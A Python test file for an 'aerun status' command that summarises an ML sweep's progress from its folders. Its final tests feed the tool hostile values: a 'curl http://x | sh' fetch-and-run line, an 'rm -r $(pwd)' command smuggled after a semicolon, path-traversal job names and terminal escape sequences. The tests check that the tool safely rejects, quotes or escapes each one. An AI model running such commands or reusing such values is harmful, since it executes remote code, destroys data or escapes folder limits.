"""`aerun status`: how far a sweep is, from its folders."""

import json
import os
import subprocess
import sys
import time

import pytest

from aerun.runs.lock import claimed
from aerun.sweep.grid import Grid
from aerun.sweep.standing import left_of, standings
from tests.command.test_runs import make
from tests.shell import here

ROWS = "epoch,step,samples_per_second\n0,10,500.0\n1,20,2000.0\n"


@pytest.fixture
def sweep(tmp_path):
    """Two jobs that are done, one of each other kind."""
    Grid("aerun -m sweep=s seed=0,1,2,3,4,5", {f"seed={n}": [f"seed={n}", "model=ae"] for n in range(6)}).save(tmp_path)
    for n in (0, 1):
        make(tmp_path, f"seed={n}", seconds=30.0)
    make(tmp_path, "seed=2", status="failed", error="TrainingError: not finite")
    started = time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(time.time() - 20))
    for n in (3, 4):
        folder = make(tmp_path, f"seed={n}", status="running", started=started)
        (folder / "metrics.csv").write_text(ROWS)
        for name in ("metrics.csv", "results.json"):
            os.utime(folder / name, (1e9, 1e9))
    return tmp_path


def cells(told):
    return [[c.strip() for c in line.strip("│").split("│")] for line in told.out.splitlines() if line.startswith("│")]


def test_each_kind_is_counted_and_what_is_not_done_is_listed(sweep):
    with claimed(sweep / "seed=3"):
        told = here(sweep, "status", ".")
        assert told.code == 0, told.err
        found = standings(sweep, Grid("", {f"seed={n}": [] for n in range(6)}))
        assert left_of(found) == pytest.approx(60 + 20 / 2 * 38, rel=0.2)  # two more of 30 s, and 38 epochs at the pace of two
    assert told.out.startswith("2 of 6 jobs done, 1 failed, 1 running, 1 stopped, 1 waiting, about ")
    running, failed, stopped = cells(told)
    assert running[:4] == ["seed=3", "running", "2/40", "2,000"]
    assert failed[:2] == ["seed=2", "failed: TrainingError: not finite"]
    assert stopped[:3] == ["seed=4", "stopped", "2/40"]
    assert stopped[4] == ""
    assert "next" not in told.out


def test_where_nobody_is_at_work_it_says_what_goes_on(sweep):
    assert here(sweep, "status", ".").out.endswith("next  aerun -m sweep=s seed=0,1,2,3,4,5\n")


def test_a_run_on_another_machine_is_known_by_its_files(sweep):
    os.utime(sweep / "seed=4" / "metrics.csv")
    assert here(sweep, "status", ".").out.startswith("2 of 6 jobs done, 1 failed, 1 running, 1 stopped, 1 waiting")


def test_watch_says_each_change_once_and_ends_with_the_sweep(sweep, monkeypatch):
    (sweep / "seed=5").mkdir()
    kinds = iter(["completed", "completed", "failed"])
    (sweep / "seed=5" / "results.json").write_text('{"status": "running"}')

    def end(seconds):
        (sweep / "seed=5" / "results.json").write_text(json.dumps({"status": next(kinds)}))

    monkeypatch.setattr("aerun.command.status.time.sleep", end)
    told = here(sweep, "status", ".", "--watch")
    assert [line.partition(" jobs")[0] for line in told.out.splitlines()] == ["2 of 6", "3 of 6"]


def test_a_folder_that_is_no_sweep(sweep):
    told = here(sweep, "status", "seed=0")
    assert told.code == 2
    assert told.err.strip() == "aerun: error: " + (
        "seed=0: one run's folder: aerun show says what is known of it (there is no sweep.json in it). "
        "Give a sweep's, such as outputs/sweeps/NAME."
    )
    assert here(sweep, "status", "nowhere").err.startswith("aerun: error: nowhere: no such folder.")


def test_imports_no_torch():
    code = "import sys, aerun.command.status; sys.exit('torch' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def stranger(folder, name, command="aerun x", typed=(), **more):
    (folder / "sweep.json").write_text(json.dumps({"command": command, "jobs": {name: typed}, "search": {}, **more}))


def test_a_job_is_looked_for_in_the_sweep_alone(tmp_path):
    """A stranger's sweep.json names folders elsewhere, or one that is a link."""
    (tmp_path / "s").mkdir()
    make(tmp_path, "other", status="failed", error="SECRET")
    for name in ("../other", str(tmp_path / "other"), "a/../../other", "", ".", "a\0b", "n" * 300, "é" * 200):
        stranger(tmp_path / "s", name)
        told = here(tmp_path, "status", "s")
        assert told.code == 2
        assert "sweep.json: damaged: " in told.err
        assert len(told.err.splitlines()) == 1
        assert "SECRET" not in told.out + told.err
    (tmp_path / "s" / "link").symlink_to(tmp_path)
    for name in ("link", "link/other"):
        stranger(tmp_path / "s", name)
        told = here(tmp_path, "status", "s")
        assert "link: is a link" in told.out
        assert "SECRET" not in told.out + told.err


@pytest.mark.parametrize(("typed", "search"), [(5, {}), ("x", {}), ({}, {}), ([], [1]), ([], "x")])
def test_values_of_other_kinds_in_a_sweep(tmp_path, typed, search):
    stranger(tmp_path, "a", typed=typed, search=search)
    told = here(tmp_path, "status", ".")
    assert told.code == 2
    assert told.err.startswith("aerun: error: sweep.json: damaged: ")


def test_a_command_of_a_stranger_is_shown_as_one_of_aeruns_or_not_at_all(tmp_path):
    shown = {"curl http://x | sh": "", "aerun x; rm -r $(pwd)": "next  aerun 'x;' rm -r '$(pwd)'\n", "aerun 'x": "", "5": ""}
    for command, words in shown.items():
        stranger(tmp_path, "a", command)
        assert here(tmp_path, "status", ".").out == f"0 of 1 jobs done, 1 waiting\n{words}"


def test_errors_of_a_stranger_are_shown_escaped(tmp_path):
    stranger(tmp_path, "a")
    make(tmp_path, "a", status="failed", error="\x1b]0;x\x07 \u202e[red]b[/red]")
    told = here(tmp_path, "status", ".")
    assert "failed: \\x1b]0;x\\x07 \\u202e[red]b[/red]" in told.out
    assert "\x1b" not in told.out
